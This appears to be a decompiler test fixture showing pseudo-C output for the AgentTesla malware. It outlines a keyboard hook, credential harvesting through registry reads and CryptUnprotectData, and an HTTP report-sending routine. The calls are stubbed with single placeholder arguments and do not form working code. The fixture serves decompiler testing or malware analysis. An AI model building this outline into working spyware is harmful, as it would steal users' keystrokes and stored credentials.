// agenttesla: decompiler fixture output
#include <windows.h>

int32_t main(void *arg)
{
    int32_t v1 = 0;
    if (install_hook(arg) == 0) {
        return -1;
    }
    v1 = harvest_credentials(arg);
    if (send_report(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t install_hook(void *arg)
{
    int32_t v1 = 0;
    if (SetWindowsHookExW(arg) == 0) {
        return -1;
    }
    v1 = GetForegroundWindow(arg);
    return v1;
}

int32_t keyboard_proc(void *arg)
{
    int32_t v1 = 0;
    if (GetAsyncKeyState(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t harvest_credentials(void *arg)
{
    int32_t v1 = 0;
    if (RegOpenKeyExA(arg) == 0) {
        return -1;
    }
    v1 = RegQueryValueExA(arg);
    if (CryptUnprotectData(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t send_report(void *arg)
{
    int32_t v1 = 0;
    if (InternetOpenA(arg) == 0) {
        return -1;
    }
    v1 = InternetConnectA(arg);
    if (HttpSendRequestA(arg) == 0) {
        return -1;
    }
    return v1;
}
